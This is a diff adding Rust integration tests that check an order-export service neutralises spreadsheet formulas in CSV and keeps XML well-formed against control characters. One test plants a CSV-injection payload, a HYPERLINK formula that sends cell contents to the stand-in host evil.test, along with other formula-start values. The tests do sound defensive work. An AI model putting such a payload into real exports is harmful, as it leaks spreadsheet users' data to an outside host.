@@ -153,3 +153,175 @@ async fn exports_apply_filters_scoping_and_authorization() {
     let (status, _) = get("/exports/orders.csv?nonsense=1".into(), Some(acme.staff.clone())).await;
     assert_eq!(status, 400);
 }
+
+/// Creates an order whose text fields are what an attacker (or a sloppy feed)
+/// would put there; returns its id.
+async fn dirty_order(app: &TestApp, token: &str, destination: &str, source_id: &str, code: &str, customer: &str, sku: &str, item: &str) -> String {
+    let body = app
+        .gql(
+            Some(token),
+            "mutation($i: CreateOrderInput!) { createOrder(input: $i) { id } }",
+            serde_json::json!({ "i": {
+                "sourceId": source_id, "code": code, "destinationLocalityId": destination, "customerName": customer,
+                "items": [{ "sourceId": "1", "productId": sku, "name": item, "quantity": 1, "unitPrice": "10.00" }]
+            } }),
+        )
+        .await;
+    body["data"]["createOrder"]["id"].as_str().unwrap_or_else(|| panic!("createOrder failed: {body}")).to_owned()
+}
+
+/// Whether XML 1.0 allows `c` (its `Char` production).
+fn xml_char(c: char) -> bool {
+    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..='\u{10FFFF}')
+}
+
+/// Parses `xml` strictly and returns, per `<order id>`, its attributes and the
+/// text of its child elements (items as `item:<attr>` and `item`). Panics on
+/// anything not well-formed, including characters XML 1.0 forbids, raw or as
+/// character references (quick-xml itself does not check those).
+fn parse_orders(xml: &str) -> std::collections::HashMap<String, std::collections::HashMap<String, String>> {
+    use quick_xml::events::Event;
+    if let Some(bad) = xml.chars().find(|c| !xml_char(*c)) {
+        panic!("the XML holds the forbidden character {bad:?}");
+    }
+    let mut reader = quick_xml::Reader::from_str(xml);
+    let config = reader.config_mut();
+    config.check_end_names = true;
+    config.check_comments = true;
+    config.allow_unmatched_ends = false;
+    config.allow_dangling_amp = false;
+    let (mut orders, mut open, mut text) = (std::collections::HashMap::new(), Vec::<String>::new(), String::new());
+    let mut current: Option<(String, std::collections::HashMap<String, String>)> = None;
+    loop {
+        match reader.read_event().unwrap_or_else(|e| panic!("ill-formed XML at {}: {e}\n{xml}", reader.buffer_position())) {
+            Event::Start(e) => {
+                let name = String::from_utf8(e.name().as_ref().to_vec()).unwrap();
+                let mut attributes = std::collections::HashMap::new();
+                for attribute in e.attributes().with_checks(true) {
+                    let attribute = attribute.unwrap_or_else(|e| panic!("bad attribute: {e}"));
+                    let value = attribute.unescape_value().unwrap_or_else(|e| panic!("bad attribute value: {e}")).into_owned();
+                    assert!(value.chars().all(xml_char), "attribute value {value:?}");
+                    attributes.insert(String::from_utf8(attribute.key.as_ref().to_vec()).unwrap(), value);
+                }
+                if name == "order" {
+                    current = Some((attributes["id"].clone(), attributes.clone()));
+                } else if name == "item" {
+                    if let Some((_, fields)) = current.as_mut() {
+                        for (key, value) in attributes {
+                            fields.insert(format!("item:{key}"), value);
+                        }
+                    }
+                }
+                open.push(name);
+                text.clear();
+            }
+            Event::Text(t) => text.push_str(&t.xml_content().unwrap()),
+            Event::GeneralRef(r) => {
+                let resolved = match r.resolve_char_ref().unwrap() {
+                    Some(c) => c.to_string(),
+                    None => quick_xml::escape::resolve_predefined_entity(&r.decode().unwrap()).expect("a predefined entity").to_owned(),
+                };
+                assert!(resolved.chars().all(xml_char), "character reference to {resolved:?}");
+                text.push_str(&resolved);
+            }
+            Event::End(_) => {
+                let name = open.pop().expect("balanced");
+                if name == "order" {
+                    let (id, fields) = current.take().expect("inside an order");
+                    orders.insert(id, fields);
+                } else if let Some((_, fields)) = current.as_mut() {
+                    fields.entry(name).or_insert_with(|| std::mem::take(&mut text));
+                }
+                text.clear();
+            }
+            Event::Eof => break,
+            _ => {}
+        }
+    }
+    assert!(open.is_empty(), "unclosed elements {open:?}");
+    orders
+}
+
+/// Formula-looking cells are neutralised in CSV, and control characters never
+/// reach the XML raw: a dirty order neither runs in a spreadsheet nor breaks
+/// the company's XML export.
+#[tokio::test]
+async fn exports_neutralise_formulas_and_keep_xml_well_formed() {
+    let app = TestApp::spawn().await;
+    let admin = app.admin().await;
+    let t = app.tenant(&admin, "acme").await;
+    let hyperlink = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";
+    let first = dirty_order(&app, &t.staff, &t.destination, "DIRTY-1", hyperlink, "+1 555 0100", "-2", "a\u{1}b\u{B}c").await;
+    let second = dirty_order(&app, &t.staff, &t.destination, "@x", "#2", "\u{1F}unit separator", "@SUM(A1)", "fine item").await;
+    let third = dirty_order(&app, &t.staff, &t.destination, "DIRTY-3", "#3", "placeholder", "SKU-3", "<b>&</b>").await;
+    // The API trims its input, so a cell cannot start with a tab or a CR that
+    // way; data from older versions or other writers can, so it is put there
+    // directly.
+    {
+        use entities::order;
+        use sea_orm::{sea_query::Expr, ColumnTrait, EntityTrait, QueryFilter};
+        order::Entity::update_many()
+            .col_expr(order::Column::CustomerName, Expr::value("\tfoo"))
+            .col_expr(order::Column::InvoiceNumber, Expr::value("\rbar"))
+            .filter(order::Column::Id.eq(third.parse::<i32>().unwrap()))
+            .exec(&app.db)
+            .await
+            .unwrap();
+    }
+
+    let download = |path: &'static str| {
+        let app = &app;
+        let token = t.staff.clone();
+        async move {
+            let response = app.http.get(format!("{}{path}", app.base)).bearer_auth(token).send().await.unwrap();
+            assert_eq!(response.status(), 200);
+            response.text().await.unwrap()
+        }
+    };
+
+    let csv = download("/exports/orders.csv").await;
+    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: std::collections::HashMap<String, csv::StringRecord> =
+        reader.records().map(|r| r.unwrap()).map(|r| (r[column("id")].to_owned(), r)).collect();
+    assert_eq!(rows.len(), 3, "{csv}");
+    let cell = |id: &str, name: &str| rows[id][column(name)].to_owned();
+    assert_eq!(cell(&first, "code"), format!("'{hyperlink}"));
+    assert_eq!(cell(&first, "customer_name"), "'+1 555 0100");
+    assert_eq!(cell(&first, "skus"), "'-2");
+    assert_eq!(cell(&first, "source_id"), "DIRTY-1", "harmless text is left alone");
+    assert_eq!(cell(&second, "source_id"), "'@x");
+    assert_eq!(cell(&second, "skus"), "'@SUM(A1)");
+    assert_eq!(cell(&second, "code"), "#2");
+    assert_eq!(cell(&third, "customer_name"), "'\tfoo");
+    assert_eq!(cell(&third, "invoice_number"), "'\rbar");
+    // Numbers the export formats itself stay numbers.
+    assert_eq!(cell(&first, "total"), "10.00");
+
+    let xml = download("/exports/orders.xml").await;
+    let orders = parse_orders(&xml);
+    assert_eq!(orders.len(), 3, "{xml}");
+    assert_eq!(orders[&first]["code"], hyperlink, "XML needs no formula quoting, only escaping");
+    assert_eq!(orders[&first]["item"], "a\u{FFFD}b\u{FFFD}c", "forbidden controls become U+FFFD in text");
+    assert_eq!(orders[&second]["customerName"], "\u{FFFD}unit separator");
+    assert_eq!(orders[&second]["sourceId"], "@x");
+    assert_eq!(orders[&third]["item"], "<b>&</b>");
+    assert_eq!(orders[&third]["customerName"], "\tfoo", "tab survives as a character reference");
+    assert_eq!(orders[&third]["invoiceNumber"], "\rbar", "so does CR");
+}
+
+/// A forbidden character in an attribute value is replaced too.
+#[tokio::test]
+async fn xml_attributes_never_carry_forbidden_characters() {
+    let app = TestApp::spawn().await;
+    let admin = app.admin().await;
+    let t = app.tenant(&admin, "acme").await;
+    let id = dirty_order(&app, &t.staff, &t.destination, "SRC\u{1}\u{1F}", "code\u{B}x", "Ana", "SKU\u{2}", "Chair").await;
+    let response = app.http.get(format!("{}/exports/orders.xml", app.base)).bearer_auth(&t.staff).send().await.unwrap();
+    let xml = response.text().await.unwrap();
+    let orders = parse_orders(&xml);
+    assert_eq!(orders[&id]["sourceId"], "SRC\u{FFFD}\u{FFFD}");
+    assert_eq!(orders[&id]["code"], "code\u{FFFD}x");
+    assert_eq!(orders[&id]["item:productId"], "SKU\u{FFFD}");
+}
